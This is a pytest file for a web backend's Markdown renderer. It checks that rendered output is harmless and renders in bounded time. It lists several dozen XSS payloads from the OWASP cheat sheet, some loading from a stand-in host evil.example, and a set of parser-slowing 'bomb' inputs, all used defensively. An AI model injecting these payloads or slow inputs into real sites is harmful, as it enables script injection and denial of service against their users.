"""Markdown over HTTP: rendered once, harmless, and in bounded time."""

import asyncio
import re
import time
from html.parser import HTMLParser
from uuid import UUID

import pytest

from backend_hub.posts.models import Post
from tests.hub import Hub, link

# From the OWASP XSS filter evasion cheat sheet, and from those for Markdown.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    "<embed src=//evil.example/x.swf>",
    '<a href="javascript:alert(1)">x</a>',
    '<a onmouseover="alert(1)">x</a>',
    "<form action=javascript:alert(1)><input type=submit>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1);">',
    "<style>@import'https://evil.example/x.css';</style>",
    '<div style="background-image: url(javascript:alert(1))">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](https://example.org/"onerror="alert(1))',
    '![x"onerror="alert(1)](https://example.org/x.png)',
    '[x](https://example.org "x\\" onclick=\\"alert(1)")',
    '[x](https://example.org/" onmouseover="alert(1))',
    '```"><script>alert(1)</script>\nx\n```',
    '``` x" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |",
    "# <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "*<img src=x onerror=alert(1)>*",
]
HARMLESS = {"p", "br", "hr", "h1", "blockquote", "ul", "ol", "li", "pre", "code", "em", "strong"}
HARMLESS |= {"s", "a", "img", "table", "thead", "tbody", "tr", "th", "td"}


class Inspector(HTMLParser):
    """Collects what a browser might run."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in {"href", "src", "alt", "title", "rel", "class", "start"}:
                self.found.append(name)
            # What the URL standard does first: tabs and line ends do not count.
            url = re.sub(r"[\x00-\x20]", "", value or "").lower()
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", url)
            if name in {"href", "src"} and scheme and scheme[1] not in {"http", "https", "mailto"}:
                self.found.append(f"{name}={value}")


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


def test_the_inspector_finds_what_it_looks_for() -> None:
    # The one in backquotes was dangerous in browsers that are gone.
    assert [p for p in PAYLOADS[:26] if not dangers(p) and "`" not in p] == []


async def test_no_known_attack_passes(hub: Hub) -> None:
    ann = await hub.person("ann")
    post = await ann.create("/resources", link())
    for payload in PAYLOADS:
        edited = await ann.patch(f"/resources/{post['id']}", {"body": payload})
        assert edited.status_code == 200, edited.text
        assert dangers(edited.json()["body_html"]) == [], payload
        comment = await ann.create(f"/posts/{post['id']}/comments", {"body": payload})
        assert comment["body_html"] == edited.json()["body_html"]


async def test_links_lend_no_weight_and_code_keeps_its_language(hub: Hub) -> None:
    ann = await hub.person("ann")
    body = "[x](https://example.org)\n\n```python\nx < 1\n```\n\n| a |\n|---|\n| ~~b~~ |\n"
    html = (await ann.create("/resources", link(body=body)))["body_html"]
    assert '<a href="https://example.org" rel="nofollow ugc noopener">x</a>' in html
    assert '<code class="language-python">x &lt; 1\n</code>' in html
    assert "<td><s>b</s></td>" in html


async def test_a_text_is_rendered_when_it_is_written_and_not_when_it_is_read(hub: Hub) -> None:
    ann = await hub.person("ann")
    post = await ann.create("/resources", link(body="*a*"))
    async with hub.database.transaction() as session:
        row = await session.get_one(Post, UUID(post["id"]))
        row.body_html = "<p>kept</p>"
    assert (await ann.read(f"/resources/{post['id']}"))["body_html"] == "<p>kept</p>"


BOMBS = {
    "brackets": "[" * 50_000,
    "images": "![" * 29_000,
    "bracket pairs": "[[]" * 19_000,
    "quotes": ">" * 30_000,
    "lazy quotes": ">" * 100 + "a\n" * 29_000,
    "lists": "- " * 29_000,
    "nested list": "".join(" " * (2 * depth) + "- a\n" for depth in range(240)),
    "emphasis": "*a **a " * 8_000,
    "stars": "*" * 59_000,
    "mixed emphasis": "*a_ " * 14_000,
    "backticks": " ".join("`" * n for n in range(1, 330)),
    "link openers": "[a](" * 14_000,
    "angles": "<" * 59_000,
    "comments": "<!--" * 14_000,
    "wide table": "|" + "a|" * 14_000 + "\n|" + "-|" * 14_000 + "\n" + "|\n" * 1_000,
    "references": "[a]: " + "/x" * 14_000 + "\n\n" + "[a]\n" * 7_000,
    "titles": '[a]: b "' + "x" * 30_000 + '"\n\n' + "[a]\n" * 6_000,
    "html": "<div>" * 11_000,
    # Slow for the parser of PostgreSQL's full-text search.
    "comments apart": "<!-- " * 11_000,
    "underscores": "a_" * 29_000,
    "home folders": "~/" * 29_000,
    "versions": "a-1." * 14_000,
}


@pytest.mark.parametrize("name", BOMBS)
async def test_a_text_made_to_be_slow_stops_nobody(hub: Hub, name: str) -> None:
    ann = await hub.person("ann")
    writing = asyncio.create_task(ann.post("/resources", link(body=BOMBS[name])))
    waits = []
    while not writing.done():
        started = time.perf_counter()
        assert (await hub.visitor.get("/health/live")).status_code == 200
        waits.append(time.perf_counter() - started)
        await asyncio.sleep(0.02)
    answer = writing.result()
    if answer.status_code == 201:
        assert len(answer.json()["body_html"]) <= 1_000_000
        assert (await hub.visitor.get(answer.headers["Location"])).status_code == 200
    else:
        assert (answer.status_code, answer.json()["errors"][0]["loc"]) == (422, ["body", "body"])
    assert max(waits) < 2


@pytest.mark.parametrize("name", ["references", "titles"])
async def test_a_text_that_repeats_itself_endlessly_is_refused(hub: Hub, name: str) -> None:
    ann = await hub.person("ann")
    refused = await ann.post("/resources", link(body=BOMBS[name]))
    assert "too long once it is rendered" in refused.json()["detail"]
    short = BOMBS[name][:31_000].rstrip("[a]\n") + "\n\n[a]"
    assert (await ann.post("/resources", link(body=short))).status_code == 201
